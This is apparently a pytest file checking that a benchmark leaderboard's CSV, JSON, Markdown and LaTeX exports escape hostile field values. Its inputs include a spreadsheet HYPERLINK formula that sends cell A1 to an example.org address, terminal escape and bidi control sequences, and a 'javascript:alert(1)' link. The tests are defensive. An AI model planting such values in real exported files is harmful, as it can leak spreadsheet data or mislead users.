"""Boards as Markdown, CSV, JSON and LaTeX: everything is there, and no text of a record does anything."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from board_records import numbered, samples_file, solved, tiered

from harness.scoring.result_record import DatasetFacts, ModelFacts, Record, Reproduction, Source, Status, TierScore
from leaderboards.latex_table import as_latex, escape_latex
from leaderboards.record_files import load
from leaderboards.score_difference import compare
from leaderboards.selection import Selection, select_sheets
from leaderboards.table_formats import (
    COLUMNS,
    as_csv,
    as_json,
    as_markdown,
    difference_json,
    escape_markdown,
    grouped,
    part_text,
    rank_text,
    size_text,
    status_text,
)

NASTY = r"100% of $x_1$ & #2 {a} ~b ^c \d | <b>*e*</b> `f` [g](h) -- 'i' \"j\""


def of(*records: Record, **wanted: object) -> list:
    return select_sheets(records or load().records, Selection(**wanted), every_k=True)[0]


@pytest.fixture(scope="module")
def paper() -> list:
    return of(dataset="apps+", status=Status.REPORTED)


# ---- CSV and JSON


def test_csv_has_a_line_for_each_model_tier_and_k(paper: list) -> None:
    rows = list(csv.DictReader(io.StringIO(as_csv(paper))))
    assert len(rows) == 14 * 4
    assert list(rows[0]) == COLUMNS
    [row] = [row for row in rows if row["id"] == "paper-rltf-apps-plus" and row["tier"] == "competition"]
    assert (row["rank"], row["value"], row["tied_with_best"], row["status"]) == ("4", "0.064", "yes", "reported")
    assert (row["group"], row["parameters"], row["trained_on_apps"]) == ("rl", "6700000000", "yes")
    assert (row["where"], row["cutoff"]) == ("Table 1", "")


def test_csv_has_every_k() -> None:
    record = solved([0, 1, 2, 2], samples=2, scores=[TierScore(value=0.625), TierScore(value=0.75, k=2)])
    rows = list(csv.DictReader(io.StringIO(as_csv(of(record)))))
    assert [(row["k"], row["value"]) for row in rows] == [("1", "0.625"), ("2", "0.75")]


def test_csv_keeps_odd_names_whole() -> None:
    name = 'a "quoted", comma; name'
    [row] = csv.DictReader(io.StringIO(as_csv(of(numbered(0.5, model=ModelFacts(id=name))))))
    assert row["model_id"] == name


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_csv_holds_no_formula(sign: str) -> None:
    text = sign + 'HYPERLINK("http://example.org/?"&A1,"click")'
    record = numbered(0.5, model=ModelFacts(id=text, name=text, group=text, licence=text), notes=["\t" + text])
    [row] = csv.DictReader(io.StringIO(as_csv(of(record))))
    for column in ("model_id", "model", "group", "licence", "notes"):
        assert row[column] == "'" + text


@pytest.mark.parametrize("write", [as_csv, as_markdown, as_latex])
def test_no_format_carries_control_characters(write: Callable[[list], str]) -> None:
    note = "\x1b]0;pwn\x07\x1b[31mred \u202e \x9b31m"
    text = write(of(numbered(0.5, model=ModelFacts(id="m\x9b31m\u202e"), notes=[note])))
    assert all(character.isprintable() or character == "\n" for character in text)


def test_why_a_row_is_not_ranked_is_told_in_json_and_latex() -> None:
    found = of(solved([1, 0, 1, 0], "whole"), solved([1, 1, None, None], "part"))
    [board] = as_json(found)["boards"]
    assert [row.get("unranked") for row in board["rows"]] == [None, "scored on 2 of 4 problems, others on 4"]
    assert r"\dagger$}: not ranked, since it was scored on fewer problems or on others." in as_latex(found)


def test_json_has_every_board_and_row(paper: list) -> None:
    data = json.loads(json.dumps(as_json(paper, ["a fault"])))
    assert [board["tier"] for board in data["boards"]] == ["overall", "introductory", "interview", "competition"]
    assert {len(board["rows"]) for board in data["boards"]} == {14}
    first = data["boards"][0]["rows"][0]
    assert (first["rank"], first["rank_range"], first["score"]["value"]) == (1, [1, 3], 0.361)
    assert first["record"]["source"]["where"] == "Table 1"
    assert data["faults"] == ["a fault"]


def test_json_leaves_outcomes_in_the_records_files() -> None:
    [board] = as_json(of(solved([1, 0])))["boards"]
    assert "problems" not in board["rows"][0]["record"]


def test_a_difference_as_json_says_how_it_came_about() -> None:
    printed = difference_json(compare(solved([1, 0, 0], "a"), solved([1, 1, 1], "b")))
    assert (printed["a"]["id"], printed["b"]["score"]["value"], printed["paired"]) == ("a", 1.0, True)
    assert (printed["a_only"], printed["b_only"]) == ([], ["P/1", "P/2"])
    assert printed["b"]["on_common_problems"] == printed["b"]["score"]
    assert printed["b_minus_a"]["value"] == pytest.approx(2 / 3)
    assert json.loads(json.dumps(printed)) == printed


# ---- Markdown


def test_markdown_has_every_model_and_what_is_said_of_it(paper: list) -> None:
    text = as_markdown(paper)
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len(table) == 2 + 14
    assert len({line.count("|") for line in table}) == 1
    for row in paper[0].main.rows:
        assert escape_markdown(row.record.model.title) in text
        for words in (*row.warnings, *row.record.notes):
            assert escape_markdown(words) in text
    assert "| 1-3 | StepCoder 6.7B | rl | 6.7B |" in text
    assert "**36.1 [33.9,38.3]**" in text
    assert "(https://arxiv.org/abs/2402.01391), Table 1 |" in text


def test_columns_that_no_row_fills_are_left_out() -> None:
    bare = [numbered(0.5, "a", source=None, status=Status.SELF_REPORTED)]
    assert "| rank | model | status | overall |\n| --- | --- | --- | ---: |\n| 1 | a |" in as_markdown(of(*bare))
    assert "Model & Overall \\\\" in as_latex(of(*bare))
    assert r"\begin{tabular}{lr}" in as_latex(of(*bare))
    one = [*bare, numbered(0.4, "b", model=ModelFacts(id="b", parameters=7e9, released=datetime.date(2024, 5, 1)))]
    text = as_markdown(of(*one))
    assert "| rank | model | size | released | status | overall | source |" in text
    assert {line.count(" | ") for line in text.splitlines() if line.startswith("| ")} == {6}
    assert "Model & Size & Overall" in as_latex(of(*one))


def test_markdown_of_a_nasty_name_stays_in_its_cell() -> None:
    record = numbered(
        0.5, model=ModelFacts(id=NASTY), source=Source(title=NASTY, where=NASTY, url="javascript:alert(1)")
    )
    [line] = [line for line in as_markdown(of(record)).splitlines() if "100%" in line and line.startswith("|")]
    assert len(re.findall(r"(?<!\\)\|", line)) == 6  # rank, model, status, score, source
    assert not re.search(r"(?<!\\)[<`*\]]", re.sub(r"\*\*.*?\*\*", "", line))
    assert "javascript" not in line


def test_a_link_cannot_end_early() -> None:
    source = Source(title="t", where="w", url="https://example.org/a)b(c <d>")
    assert "(https://example.org/a%29b%28c%20%3Cd%3E)" in as_markdown(of(numbered(0.5, source=source)))


# ---- LaTeX


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("$&%#_{}", r"\$\&\%\#\_\{\}"),
        ("~^\\", r"\textasciitilde{}\textasciicircum{}\textbackslash{}"),
        ("a<b>c|d", r"a\textless{}b\textgreater{}c\textbar{}d"),
        ("w/o CCCS -- 6.7B", r"w/o CCCS -{}- 6.7B"),
        ("two\nlines", "two lines"),
        ("[3pt] x", "{[}3pt{]} x"),
        ("*x", "{*}x"),
    ],
)
def test_latex_prints_any_text(text: str, escaped: str) -> None:
    assert escape_latex(text) == escaped


def test_latex_is_the_papers_table(paper: list) -> None:
    text = as_latex(paper)
    assert r"Model & Size & Overall & Introductory & Interview & Competition \\" in text
    best = r"StepCoder 6.7B & 6.7B & \textbf{36.1} & \textbf{59.7} & \textbf{23.5} & \textbf{8.6} \\"
    noise = r"RLTF 6.7B & 6.7B & 32.7 & \underline{55.1} & \underline{20.8} & \underline{6.4} \\"
    assert best in text
    assert noise in text
    groups = re.findall(r"\\midrule\n    \\multicolumn\{6\}\{l\}\{\\textit\{(.*?)\}\}", text)
    assert groups == ["Base models", "Supervised fine-tuned models", "RL-based models", "Ablations"]
    assert text.count(r"\toprule") == text.count(r"\bottomrule") == 1


def test_latex_braces_balance_whatever_the_names_are() -> None:
    text = as_latex(of(numbered(0.5, model=ModelFacts(id=NASTY, group=NASTY)), numbered(0.4, "b")))
    bare = re.sub(r"\\.", "", "\n".join(line for line in text.splitlines() if not line.startswith("%")))
    assert bare.count("{") == bare.count("}")


def test_unranked_rows_are_marked_in_latex() -> None:
    records = load().records
    text = as_latex(of(*records, dataset="apps+", status=Status.REPORTED, unrank_contaminated=True))
    assert r"StepCoder 6.7B\textsuperscript{$\dagger$} & 6.7B & 36.1 &" in text
    assert r"\dagger$}: not ranked" in text


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed")
def test_latex_compiles(paper: list, tmp_path: Path) -> None:
    nasty = [numbered(0.5, f"m{i}", model=ModelFacts(id=n, group=n)) for i, n in enumerate((NASTY, "[3pt]", "*"))]
    tables = as_latex(paper) + as_latex(of(*nasty)) + as_latex(of(*(r for r in nasty if r.model.group != "*")))
    head = "\\documentclass{article}\\usepackage[T1]{fontenc}\\usepackage{textcomp,booktabs}\\begin{document}\n"
    (tmp_path / "t.tex").write_text(head + tables + "\\end{document}\n")
    command = ["pdflatex", "-halt-on-error", "-interaction=nonstopmode", "t.tex"]
    ran = subprocess.run(command, cwd=tmp_path, capture_output=True, timeout=50)
    assert ran.returncode == 0, ran.stdout.decode(errors="replace")[-2000:]


# ---- words


@pytest.mark.parametrize(
    ("parameters", "text"),
    [
        (6.7e9, "6.7B"),
        (13e9, "13B"),
        (1.76e12, "1.76T"),
        (350e6, "350M"),
        (999.9e6, "1B"),
        (124e3, "124,000"),
        (None, ""),
    ],
)
def test_sizes_for_people(parameters: float | None, text: str) -> None:
    assert size_text(numbered(0.5, model=ModelFacts(id="m", parameters=parameters))) == text


def test_a_rank_is_a_range_where_the_data_allow_several() -> None:
    [sheet] = of(numbered(0.9, "a"), numbered(0.5, "b"), numbered(0.49, "c"))
    assert [rank_text(row) for row in sheet.main.rows] == ["1", "2-3", "2-3"]


def test_reproduced_says_how_much_agreed() -> None:
    again = Reproduction(samples=164, agreed=163)
    record = numbered(0.5, status=Status.REPRODUCED, reproduction=again, samples=samples_file())
    assert (status_text(record), part_text(record)) == ("reproduced (163 of 164)", "")
    assert status_text(solved([1])) == "self-reported"


def test_reproduced_in_part_says_so() -> None:
    again = Reproduction(samples=33, agreed=32)
    record = numbered(0.5, status=Status.REPRODUCED, reproduction=again, samples=samples_file())
    assert (status_text(record), part_text(record)) == ("reproduced (32 of 33, in part: 33/164)", "33/164")
    assert part_text(record.model_copy(update={"samples": None})) == "33/?"
    assert part_text(record.model_copy(update={"status": Status.REPORTED})) == ""


def test_groups_stand_in_the_papers_order_then_others_then_none() -> None:
    names = ("zebra", "rl", None, "base", "apes")
    records = [numbered(0.5, f"m{i}", model=ModelFacts(id=f"m{i}", group=name)) for i, name in enumerate(names)]
    [sheet] = of(*records)
    assert list(grouped(sheet.main.rows)) == ["Base models", "RL-based models", "apes", "zebra", "Other models"]


def test_a_group_that_is_called_like_another_loses_no_row() -> None:
    names = ("base", "Base models", "Other models", None)
    records = [numbered(0.5, f"m{i}", model=ModelFacts(id=f"m{i}", group=name)) for i, name in enumerate(names)]
    [sheet] = of(*records)
    assert sum(map(len, grouped(sheet.main.rows).values())) == 4


def test_a_missing_tier_is_a_dash() -> None:
    whole = tiered((0.3, 0.5, 0.2, 0.1), name="whole")
    part = whole.model_copy(update={"id": "part", "model": ModelFacts(id="part"), "scores": [TierScore(value=0.2)]})
    [sheet] = of(whole, part)
    assert r"part & 20.0 & -- & -- & -- \\" in as_latex([sheet])
    assert re.search(r"\| part \|.*\| 20\.0 \[.*?\] \| - \| - \| - \|", as_markdown([sheet]))


def test_problems_without_a_tier_among_others_have_a_name() -> None:
    facts = DatasetFacts(name="apps", tiers={"": 10, "hard": 10})
    scores = [TierScore(value=0.5), TierScore(tier="", value=0.6), TierScore(tier="hard", value=0.4)]
    [sheet] = of(numbered(0, dataset=facts, scores=scores))
    assert "(no tier)" in as_markdown([sheet])
